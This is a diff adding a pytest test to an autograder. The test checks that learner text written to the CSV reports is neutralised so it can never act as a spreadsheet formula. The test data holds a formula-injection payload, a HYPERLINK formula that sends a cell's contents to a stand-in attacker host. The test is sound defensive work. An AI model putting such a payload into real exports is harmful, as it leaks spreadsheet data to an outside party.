@@ -405,3 +405,20 @@ def test_a_half_written_record_shows_as_not_graded_and_a_running_class_run_stops
     with CourseLock(root / LOGS / LOCK):  # a class run grading the course now
         with pytest.raises(ReportError, match="another class run is grading this course"):
             read_class(root, [NB1])
+
+
+def test_learner_text_in_the_csv_files_is_never_a_spreadsheet_formula(tmp_path):
+    """A failing input quotes the learner's own exception, which can read like a formula (red team 6, F3)."""
+    import csv
+
+    from autograder.tools.class_data import ClassReport, Outcome, Submission
+    from autograder.tools.report import write
+
+    forged = '=HYPERLINK("http://evil.example/?"&A1,"see")'
+    outcomes = {"e0": Outcome(0, 1, "crash", forged), "e1": Outcome(0, 1, "mismatch", "x = -1.5")}
+    write(ClassReport("c", {"a1": ["e0", "e1"]}, [Submission("ann", "a1", 0, 2, outcomes, graded=True)]), tmp_path)
+    with open(tmp_path / "results.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["input"] for r in rows] == ["'" + forged, "x = -1.5"]
+    cells = [c for name in ("results.csv", "causes.csv") for r in csv.reader(open(tmp_path / name)) for c in r]
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
